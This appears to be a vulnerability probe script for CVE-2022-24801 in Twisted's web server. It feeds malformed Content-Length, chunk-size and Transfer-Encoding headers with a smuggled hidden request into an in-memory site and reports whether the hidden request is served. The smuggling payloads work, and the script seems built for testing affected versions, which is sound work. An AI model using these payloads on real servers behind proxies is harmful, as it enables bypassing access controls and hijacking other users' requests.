# /// vertice-probe
# id = "PYSEC-2022-195"
# aliases = ["CVE-2022-24801", "GHSA-c2jg-hw38-jrqq"]
# package = "twisted"
# summary = "The web server takes malformed lengths and headers, so a proxy in front may see other requests."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:H/A:H" }]
# cwe = ["CWE-444"]
# kind = "request-smuggling"
# symbols = [
#   "twisted.web.server.Site",
#   "twisted.web.http.HTTPFactory",
#   "twisted.web.http.HTTPChannel",
#   "twisted.web.http.Request",
# ]
#
# [[affected]]
# package = "twisted"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "22.4.0" }] }]
#
# [cases]
# attack = "a Content-Length of +N is taken for N and a hidden request gets through"
# [cases.variants]
# chunk_size = "a chunk size of 0xN is taken and a hidden request behind the chunks gets through"
# white_space = "a vertical tab before `chunked` is stripped and a hidden request gets through"
# [cases.controls]
# requests = "a chunked and a counted request over one connection are served"
#
# [test]
# vulnerable = "22.2.0"
# fixed = "22.4.0"
# with = ["setuptools<70"]
# ///
"""CVE-2022-24801: lenient reading of lengths and headers."""

import json
import re
import sys
import warnings

warnings.simplefilter("ignore")
FOLLOWING = b"GET /hidden HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"


def serve(data):
    """([(path, body)] that the site served, status lines it sent) for a connection with this data."""
    from twisted.internet.testing import StringTransport
    from twisted.web import resource, server

    served, waiting = [], []

    class Page(resource.Resource):
        isLeaf = True

        def render(self, request):
            served.append((request.path.decode(), request.content.read()))
            waiting.append(request)
            return server.NOT_DONE_YET

    site = server.Site(Page())
    channel = site.buildProtocol(None)
    transport = StringTransport()
    channel.makeConnection(transport)
    channel.dataReceived(data)
    while waiting:  # the next request on the connection is looked at when this one is answered
        request = waiting.pop(0)
        request.write(b"ok")
        request.finish()
    answer = transport.value().decode("latin-1")
    return served, re.findall(r"HTTP/1\.[01] (\d+)", answer)


def serve_and_look(head, body):
    served, statuses = serve(b"POST /front HTTP/1.1\r\nHost: x\r\n" + head + b"\r\n\r\n" + body)
    paths = [path for path, _ in served]
    if "/hidden" in paths:
        return "exploited", "a second request hidden in the first was served: %s" % paths
    if served or statuses != ["400"]:
        return "error", "served %r, answered %r" % (served, statuses)
    return "blocked", "the request was refused with 400"


def attack():
    return serve_and_look(b"Content-Length: +4", b"abcd" + FOLLOWING)


def chunk_size():
    return serve_and_look(b"Transfer-Encoding: chunked", b"0x4\r\nabcd\r\n0\r\n\r\n" + FOLLOWING)


def white_space():
    return serve_and_look(b"Transfer-Encoding: \x0bchunked", b"0\r\n\r\n" + FOLLOWING)


def requests():
    served, statuses = serve(
        b"POST /one HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\na\r\n0123456789\r\n0\r\n\r\n"
        b"POST /two HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\n\r\ndef"
    )
    good = served == [("/one", b"0123456789"), ("/two", b"def")] and statuses == ["200", "200"]
    return ("works", "two requests served") if good else ("broken", "%r %r" % (served, statuses))


CASES = {"attack": attack, "chunk_size": chunk_size, "white_space": white_space, "requests": requests}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
